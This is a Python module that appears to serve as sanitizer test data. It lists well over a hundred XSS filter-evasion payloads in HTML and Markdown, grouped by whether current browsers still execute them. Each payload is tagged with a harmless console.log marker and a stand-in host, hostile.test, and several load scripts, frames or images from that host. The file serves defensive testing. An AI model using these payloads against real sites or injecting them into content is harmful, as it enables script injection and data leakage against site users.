"""What hostile data try on a page: the kinds of OWASP's XSS filter evasion cheat sheet and some newer ones.

In each, RUN stands for a script and URL for an address of an attacker; both carry the kind's own mark.
ENTITIES is the script with every character as an HTML entity.
"""

import re

MARK = re.compile("~([a-z-]+)~([a-z0-9-]+)~")

# What a browser obeys when it stands on a page as it is: at once, or when it is clicked, entered or hovered.
HTML = {
    # Scripts.
    "script": "<script>RUN</script>",
    "alert": "<script>alert('NAME')</script>",
    "confirm": "<svg onload=confirm(/NAME/)>",
    "prompt": "<img src=x: onerror=prompt(/NAME/)>",
    "script-case": "<ScRiPt>RUN</sCrIpT>",
    "script-source": "<script src=URL></script>",
    "script-slash": '<script/x src="URL"></script>',
    "script-doubled-bracket": "<<script>RUN;//<</script>",
    "script-after-quotes": '<img """><script>RUN</script>">',
    "script-unclosed": "<script src=URL?<b>",
    "script-space-in-end": "<script>RUN</script >",
    # Handlers of events.
    "img-onerror": "<img src=x: onerror=RUN>",
    "img-onerror-upper": "<IMG SRC=x: ONERROR=RUN>",
    "img-onerror-entities": '<img src=x: onerror="ENTITIES">',
    "img-onerror-slashes": '<img/src="x:"/onerror="RUN">',
    "img-onerror-newline": "<img\nsrc=x:\nonerror\n=\nRUN>",
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=RUN onerror=RUN>',
    "body-onload": "<body onload=RUN>",
    "svg-onload": "<svg onload=RUN>",
    "svg-onload-slash": "<svg/onload=RUN>",
    "b-onmouseover": "<b onmouseover=RUN>here</b>",
    "td-onclick": "<table onclick=RUN><tr><td onclick=RUN>here</td></tr></table>",
    "input-onfocus": "<input onfocus=RUN autofocus>",
    "details-ontoggle": "<details open ontoggle=RUN>here</details>",
    "video-source-onerror": "<video><source onerror=RUN src=x:></video>",
    "onanimationstart": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>",
    # Links.
    "link-javascript": '<a href="javascript:RUN">here</a>',
    "link-javascript-case": '<a href="JaVaScRiPt:RUN">here</a>',
    "link-javascript-tab": '<a href="jav\tascript:RUN">here</a>',
    "link-javascript-tab-entity": '<a href="jav&#x09;ascript:RUN">here</a>',
    "link-javascript-newline-entity": '<a href="jav&#x0A;ascript:RUN">here</a>',
    "link-javascript-control": '<a href=" &#14; javascript:RUN">here</a>',
    "link-javascript-colon": '<a href="javascript&colon;RUN">here</a>',
    "link-javascript-entities": '<a href="&#106;&#97;vascript&#58;ENTITIES">here</a>',
    "link-javascript-comment": '<a href="javascript://%0ARUN">here</a>',
    "link-data": '<a href="data:text/html,<img src=URL>">here</a>',
    "link-ping": '<a href="#" ping="URL">here</a>',
    "area-javascript": '<map name=m><area href="javascript:RUN" shape=default></map>',
    # SVG and MathML.
    "svg-link": '<svg><a xlink:href="javascript:RUN"><text y=9>here</text></a></svg>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-source": '<svg><script xlink:href="URL"></script></svg>',
    "svg-animate": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "svg-set": "<svg><set onbegin=RUN attributeName=x to=1>",
    "svg-image": '<svg><image xlink:href="URL" width=9 height=9></svg>',
    "svg-foreign-object": "<svg><foreignObject><p><img src=x: onerror=RUN></p></foreignObject></svg>",
    "svg-style": "<svg><style>@import 'URL';</style></svg>",
    "math-style": "<math><mtext><style>@import 'URL';</style></mtext></math>",
    # Frames and plug-ins.
    "iframe": "<iframe src=URL></iframe>",
    "iframe-javascript": '<iframe src="javascript:parent.RUN"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script>RUN&lt;/script>"></iframe>',
    "iframe-data": "<iframe src='data:text/html,<img src=URL>'></iframe>",
    "frameset": "<frameset><frame src=URL></frameset>",
    "object": "<object data=URL></object>",
    "object-data": "<object type=text/html data='data:text/html,<img src=URL>'></object>",
    "embed": "<embed src=URL>",
    # The document's head, and forms.
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "base": '<base href="URL/"><img src=x.png>',
    "form-action": "<form action=URL><button>here</button></form>",
    "form-javascript": '<form action="javascript:RUN"><input type=submit></form>',
    "formaction": '<form><button formaction="javascript:RUN">here</button></form>',
    "input-image": "<input type=image src=URL>",
    # Style.
    "style-attribute": '<p style="background:url(URL)">here</p>',
    "style-attribute-escaped": '<p style="background:\\75rl(URL)">here</p>',
    "style-list": '<ul><li style="list-style:url(URL)">here</ul>',
    "style-element": "<style>i{background:url(URL)}</style><i>here</i>",
    "style-import": "<style>@import 'URL';</style>",
    "style-import-case": "<STYLE type=text/css>@imp\\6frt url('URL');</STYLE>",
    "link-stylesheet": "<link rel=stylesheet href=URL>",
    "link-preload": "<link rel=preload as=image href=URL>",
    "link-prefetch": "<link rel=prefetch href=URL>",
    # Pictures and media.
    "img": "<img src=URL>",
    "img-no-scheme": "<img src=//hostile.test/NAME>",
    "img-backslash": "<img src=https:\\\\hostile.test\\NAME>",
    "img-relative": "<img src=NAME.png>",
    "img-file": "<img src=file:///NAME.png>",
    "img-srcset": '<img srcset="URL 1x">',
    "image-element": "<image src=URL>",
    "picture-source": "<picture><source srcset=URL><img alt=here></picture>",
    "body-background": "<body background=URL>",
    "table-background": "<table background=URL><tr><td>here</td></tr></table>",
    "td-background": "<table><tr><td background=URL>here</td></tr></table>",
    "video": "<video src=URL></video>",
    "video-poster": "<video poster=URL></video>",
    "audio": "<audio src=URL></audio>",
    "track": '<video src="data:video/mp4," crossorigin><track default kind=captions src=URL></video>',
    # Where parsers disagree about what is a comment, a text or an attribute.
    "comment-closed-early": "<!--><img src=x: onerror=RUN>-->",
    "comment-closed-by-bang": "<!-- --!><img src=x: onerror=RUN> -->",
    "comment-conditional": "<!--[if gte IE 4]><!--><script>RUN</script><!--<![endif]-->",
    "cdata": "<![CDATA[><img src=x: onerror=RUN>]]>",
    "processing-instruction": "<?xml ><img src=x: onerror=RUN>?>",
    "declaration": '<!x "><img src=x: onerror=RUN>">',
    "noscript-in-attribute": '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
    "textarea-in-attribute": '<textarea><p title="</textarea><img src=x: onerror=RUN>"></textarea>',
    "title-in-attribute": '<title><p title="</title><img src=x: onerror=RUN>"></title>',
    "style-in-attribute": '<style><p title="</style><img src=x: onerror=RUN>"></style>',
    "xmp-in-attribute": '<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>',
    "noembed-in-attribute": '<noembed><p title="</noembed><img src=x: onerror=RUN>"></noembed>',
    "svg-style-comment": "<svg></p><style><g title='</style><img src=x: onerror=RUN>'>",
    "shadow-root": "<div><template shadowrootmode=open><img src=x: onerror=RUN></template></div>",
}
# What no browser of today obeys as it stands, but old ones did, or what a careless filter would wake up.
SLEEPING = {
    "script-in-script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-null": "<scr\0ipt>RUN</scr\0ipt>",
    "img-onerror-null": "<img src=x: on\0error=RUN>",
    "img-javascript": '<img src="javascript:RUN">',
    "img-vbscript": "<img src='vbscript:msgbox(\"NAME\")'>",
    "img-lowsrc": "<img lowsrc=URL dynsrc='javascript:RUN'>",
    "link-vbscript": "<a href='vbscript:msgbox(\"NAME\")'>here</a>",
    "style-expression": '<p style="width:expression(RUN)">here</p>',
    "style-expression-comment": '<p style="width:exp/**/ression(RUN)">here</p>',
    "style-binding": "<p style=\"-moz-binding:url('URL')\">here</p>",
    "style-behaviour": '<p style="behavior:url(URL)">here</p>',
    "bgsound": '<bgsound src="URL">',
    "layer": "<layer src=URL></layer>",
    "applet": "<applet code=URL archive=URL></applet>",
    "object-javascript": '<object><param name=src value="javascript:RUN"></object>',
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "meta-cookie": '<meta http-equiv="set-cookie" content="a=<script>RUN</script>">',
    "svg-animate-href": "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</a></svg>",
    "svg-use": '<svg><use xlink:href="URL#x"></use></svg>',
    "math-href": '<math href="javascript:RUN"><mi>here</mi></math>',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
    "form-mutation": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
    "template": "<template><img src=x: onerror=RUN><script>RUN</script></template>",
    "xml-island": '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:RUN">]]></c></x></xml>',
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
}
# What becomes HTML by way of Markdown, and acts where HTML is let through and every address is taken.
MARKDOWN = {
    "link": "[here](javascript:RUN)",
    "link-case": "[here](JaVaScRiPt:RUN)",
    "link-angle": "[here](<javascript:RUN>)",
    "link-space": "[here]( javascript:RUN)",
    "link-colon-entity": "[here](javascript&#58;RUN)",
    "link-colon-named": "[here](javascript&colon;RUN)",
    "link-first-letter": "[here](&#x6A;avascript:RUN)",
    "link-tab": "[here](<java&Tab;script:RUN>)",
    "link-tab-number": "[here](java&#9;script:RUN)",
    "link-control": "[here](&#1;javascript:RUN)",
    "link-data": "[here](data:text/html,%3Cimg%20src=URL%3E)",
    "link-file": "[here](file:///NAME)",
    "link-in-a-table": "|a|\n|-|\n|[here](javascript:RUN)|\n",
    "link-by-reference": "[here][r]\n\n[r]: javascript:RUN",
    "link-automatic": "<javascript:RUN>",
    "image": "![here](URL)",
    "image-by-reference": "![here][r]\n\n[r]: URL",
    "image-address": '![here](x:"onerror=RUN)',
    "image-no-scheme": "![here](//hostile.test/NAME)",
    "image-relative": "![here](NAME.png)",
    "image-in-a-link": "[![here](URL)](javascript:RUN)",
    "html-in-a-sentence": "a <img src=x: onerror=RUN> b",
    "html-in-a-heading": "# <img src=x: onerror=RUN>",
    "html-in-a-table": "|a|\n|-|\n|<img src=x: onerror=RUN>|\n",
}
# What Markdown makes harmless by itself, as long as it escapes.
SLEEPING_MARKDOWN = {
    "link-vbscript": "[here](vbscript:NAME)",
    "link-title": '[here](# "x\\" onmouseover=RUN y=\\"")',
    "image-title": '![here](x: "x\\" onerror=RUN y=\\"")',
    "image-text": '!["onerror=RUN x="](x:)',
    "html-in-code": "`</code><img src=x: onerror=RUN>`",
    "html-in-a-fence": '```"><img/src="x:"/onerror="RUN">\n</code></pre><img src=x: onerror=RUN>\n```',
    "html-as-entities": "&lt;img src=x: onerror=RUN&gt;",
}


def armed(channel: str, kinds: dict[str, str]) -> list[str]:
    """Return every kind with its own mark, which says by which way it came as well."""
    return [arm(channel, kind, attempt) for kind, attempt in kinds.items()]


def arm(channel: str, kind: str, attempt: str) -> str:
    name = f"~{channel}~{kind}~"
    script = f"console.log(/{name}/)"
    entities = "".join(f"&#{ord(letter)};" for letter in script)
    made = attempt.replace("ENTITIES", entities).replace("RUN", script)
    return made.replace("URL", f"https://hostile.test/{name}").replace("NAME", name)
